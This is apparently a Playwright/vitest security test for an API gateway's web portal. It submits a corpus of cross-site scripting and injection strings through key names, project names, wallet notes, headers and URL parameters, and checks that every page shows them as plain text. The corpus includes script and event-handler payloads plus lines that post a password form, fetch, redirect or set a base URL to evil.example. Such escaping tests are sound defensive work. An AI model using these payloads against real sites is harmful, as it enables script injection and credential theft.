import { afterAll, beforeAll, expect, it } from 'vitest';
import { startGateway, type TestGateway } from '../../support/gateway.ts';
import { type Person, signIn, useBrowsers } from './browser.ts';

const browsers = useBrowsers();
let gateway: TestGateway;
let person: Person;

beforeAll(async () => {
  gateway = await startGateway({ env: { HEADGATE_MAX_ACTIVE_KEYS: '100' } });
  person = await browsers.open();
  await signIn(person.page, gateway);
});

afterAll(() => gateway.stop());

/** Texts that are something else where a page forgets what they are. */
const corpus = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title><script>alert(1)</script>',
  '</pre></code><iframe src=javascript:alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  'javascript:alert(1)',
  '${alert(1)} {{7*7}} <%= 7*7 %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Egnp.exe <b>bold</b> \u200B',
  '"><form action=https://evil.example><input name=password>',
  '<a hx-get="https://evil.example" hx-trigger="load">x</a>',
  "<img/src='x'/onerror=alert`1`>",
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
];

interface Key {
  readonly id: string;
  readonly name: string;
  readonly secret: string;
}

async function make(name: string): Promise<Key> {
  const answer = await gateway.request('/v1/keys', { body: { name } });
  expect([name, answer.status]).toEqual([name, 201]);
  return (await answer.json()) as Key;
}

const elements =
  'main script, main iframe, main :not(.brand) > img, main svg[onload], main base, main meta, main form[action^="http"]';

/** The page shows hostile texts as texts: nothing of them became part of it, ran, or was asked for. */
async function expectHarmless(path: string): Promise<void> {
  const { page, complaints } = person;
  await page.goto(new URL(path, gateway.url).href);
  expect(new URL(page.url()).origin, path).toBe(new URL(gateway.url).origin);
  expect(await page.locator(elements).count(), path).toBe(0);
  expect(await page.locator('main [hx-get]:not(#live):not(.filters)').count(), path).toBe(0);
  expect(complaints, path).toEqual([]);
}

it('a hostile corpus through every field is shown as it was written, and does nothing', async () => {
  const { page } = person;
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(gateway.url)) foreign.push(request.url());
  });
  const [first = ''] = corpus;
  const renamed = await gateway.request('/v1/organizations', { body: { name: first } });
  expect(renamed.status).toBe(201);
  await gateway.db.sql`update organizations set name = ${corpus.join(' ')} where platform`;
  const keys: Key[] = [];
  for (const text of corpus) {
    keys.push(await make(text));
    const project = await gateway.request('/v1/projects', { body: { name: text.slice(0, 100) } });
    expect(project.status).toBe(201);
    const credit = { amount: '0.01', reference: text, note: text };
    expect((await gateway.request('/v1/wallet/credits', { body: credit })).status).toBe(201);
  }
  const body = { model: 'standin-chat', messages: [{ role: 'user', content: first }] };
  for (const { secret } of keys.slice(0, 3)) {
    const headers = { 'x-client-request-id': '"><script>alert(1)</script>', 'user-agent': first };
    await (await gateway.request('/v1/chat/completions', { key: secret, body, headers })).text();
  }

  const lists = [
    '/',
    '/portal/keys',
    '/portal/keys/new',
    '/portal/usage',
    '/portal/usage?by=key_id',
    '/portal/usage?by=project_id',
    '/portal/wallet',
    '/portal/models',
    '/portal/sessions',
  ];
  for (const path of lists) await expectHarmless(path);
  await page.goto(`${gateway.url}/portal/keys`);
  const shown = await page.locator('tbody td:first-child a').allTextContents();
  for (const text of corpus) expect(shown).toContain(text);
  for (const { id, name } of keys) {
    await expectHarmless(`/portal/keys/${id}`);
    expect(await page.getByLabel('Name').inputValue()).toBe(name);
    await expectHarmless(`/portal/keys/${id}/delete`);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe(`Delete ${name}?`);
  }
  const { data } = (await (await gateway.request('/v1/usage/requests')).json()) as { data: { id: string }[] };
  for (const { id } of data) await expectHarmless(`/portal/usage/${id}`);
  for (const text of corpus) {
    const word = encodeURIComponent(text);
    await expectHarmless(`/portal/usage?range=${word}&by=${word}&measure=${word}&model=${word}`);
    await expectHarmless(`/portal/keys?status=${word}&notice=${word}`);
    await expectHarmless(`/portal/wallet?type=${word}&notice=${word}`);
    await expectHarmless(`/portal/models/${word}`);
    await expectHarmless(`/portal/keys/${word}`);
    await expectHarmless(`/welcome?token=${word}`);
  }
  expect(foreign).toEqual([]);
});

it('the same typed into the forms, and sent back by refusals', async () => {
  const { page, complaints } = person;
  for (const text of corpus) {
    await page.goto(`${gateway.url}/portal/keys/new`);
    await page.getByLabel('Name').fill(text);
    for (const label of ['Requests per minute', 'Tokens per minute', 'Requests at once', 'Tokens per month']) {
      await page.getByLabel(label).fill(text.slice(0, 20));
    }
    await page.getByRole('button', { name: 'Make the key' }).click();
    await page.getByRole('alert').waitFor();
    expect(await page.getByLabel('Name').inputValue()).toBe(text);
    expect(await page.locator(elements).count(), text).toBe(0);
    await page.goto(`${gateway.url}/portal/wallet`);
    await page.getByText('Add credit').click();
    await page.getByLabel('Amount in USD').fill(text.slice(0, 40));
    await page.getByLabel('Reference').fill(text);
    await page.getByLabel('Note').fill(text);
    await page.getByRole('button', { name: 'Book the credit' }).click();
    await page.getByRole('alert').waitFor();
    expect(await page.locator(elements).count(), text).toBe(0);
  }
  expect(complaints).toEqual([]);
});
